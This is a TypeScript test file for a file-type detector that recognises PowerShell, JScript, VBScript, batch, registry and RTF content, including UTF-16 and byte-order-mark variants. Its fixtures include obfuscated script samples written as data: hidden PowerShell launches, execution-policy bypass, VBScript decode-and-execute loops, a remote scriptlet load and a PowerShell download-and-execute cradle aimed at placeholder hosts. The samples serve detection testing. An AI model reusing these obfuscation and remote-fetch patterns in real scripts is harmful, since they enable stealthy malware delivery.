import assert from 'node:assert/strict'
import { test } from 'node:test'
import { cat, latin } from './bytes.ts'
import { typesOf } from './types-of.ts'

const POWERSHELL = 'param([string]$Name)\r\nforeach ($f in Get-ChildItem -Path $env:TEMP) { Write-Host $f.Name }\r\n'
const JSCRIPT = 'var sh = new ActiveXObject("WScript.Shell");\r\nsh.Run("calc.exe", 0, false);\r\n'
const REGISTRY = 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Own]\r\n"a"="b"\r\n'
const BATCH = '@echo off\r\nset X=1\r\nif exist "%TEMP%\\a" goto end\r\necho hello\r\n:end\r\n'
const BASIC = 'Dim sh\r\nSet sh = CreateObject("WScript.Shell")\r\nsh.Run "notepad.exe"\r\n'

function wide(text: string): Buffer {
  return Buffer.from(text, 'utf16le')
}

for (const [type, text] of [
  ['application/x-powershell', POWERSHELL],
  ['text/javascript', JSCRIPT],
  ['text/x-ms-regedit', REGISTRY],
  ['text/vbscript', BASIC],
] as const) {
  test(`${type} is known in characters of 16 bits, with and without their mark`, () => {
    for (const content of [
      wide(text),
      wide(`\ufeff${text}`),
      wide(`\ufeff${text}`).swap16(),
      Buffer.from(`\ufeff${text}`),
    ])
      assert.equal(typesOf(content)[0], type)
  })
}

/** Short programs, and programs that are written so that nobody sees what they do. */
const PROGRAMS: readonly (readonly [type: string, text: string])[] = [
  [
    'application/x-bat',
    ':start\r\ngoto next\r\n:a1\r\nping -n 2 127.0.0.1 >nul\r\ngoto end\r\n:next\r\ncopy a b\r\ngoto a1\r\n:end\r\n',
  ],
  ['application/x-bat', '@start calc.exe\r\n'],
  ['application/x-bat', 'start https://own.invalid/\r\nexit\r\n'],
  ['application/x-bat', '@set "abc=xyzpowershel"\r\n%abc:~3,1%%abc:~4,1%%abc:~5,1% -w hidden\r\n'],
  ['application/x-bat', '%qwErt%s%zuiOp%e%asdFg%t%hjkLl%l%yxcVb%o%nmQwe%c%rtZui%al\r\n'],
  ['application/x-bat', '@powershell -ExecutionPolicy Bypass -File a.ps1\r\npause\r\n'],
  ['text/vbscript', 'x="":For i=1 To Len(y):x=x&Chr(Asc(Mid(y,i,1))-1):Next:Execute x\r\n'],
  ['text/vbscript', 'Dim a(3)\r\na(0)=99\r\nFor Each q In a\r\ns = s & Chr(q)\r\nNext\r\nExecuteGlobal s\r\n'],
  [
    'text/vbscript',
    '\'xaskdjh aksjdh\r\nK = "a" & "b"\r\nSet o = GetObject(K)\r\no.Document.Application.ShellExecute "calc"\r\n',
  ],
  ['text/vbscript', 'CreateObject("WScript.Shell").Run "calc"'],
  ['text/vbscript', 'MsgBox "hello world"'],
  ['text/javascript', 'a = "WSc" + "ript";\nb = this["Acti"+"veX"];\nc = new b(a);\nc["R"+"un"]("calc");\n'],
  ['text/javascript', "WScript.CreateObject('WScript.Shell').Run('calc');"],
  ['text/javascript', 'GetObject("script:http://own.invalid/a.sct");'],
  ['text/javascript', 'alert(1);'],
  [
    'application/x-powershell',
    "$x='aa';&(\"{1}{0}\"-f'X','IE') (New-Object Net.WebClient).DownloadString('http://own.invalid')",
  ],
  ['application/x-powershell', 'Start-Process calc.exe'],
  ['application/x-powershell', 'Get-Process | Sort-Object CPU -Descending | Select-Object -First 5'],
]

for (const [type, text] of PROGRAMS) {
  test(`${JSON.stringify(text.slice(0, 40))} is ${type}`, () => {
    assert.equal(typesOf(Buffer.from(text))[0], type)
  })
}

test('commands behind a mark of 16 bits are known, with and without a line before them', () => {
  for (const start of ['\r\ncls\r\n', '&cls\r\n'])
    assert.ok(typesOf(cat('\xff\xfe', start, BATCH)).includes('application/x-bat'), start)
})

test('blanks and marks in front of a rich text do not hide it', () => {
  for (const start of [' ', '\r\n\t', '\xef\xbb\xbf', '\xef\xbb\xbf \n', ' '.repeat(1000)]) {
    assert.equal(typesOf(latin(`${start}{\\rtf1\\ansi x}`))[0], 'application/rtf')
    assert.equal(typesOf(latin(`${start}{\\rtf1\\bin40 ${'\0\x01'.repeat(400)}}`))[0], 'application/rtf')
  }
  assert.ok(!typesOf(latin('a {\\rtf1 x}')).includes('application/rtf'))
})
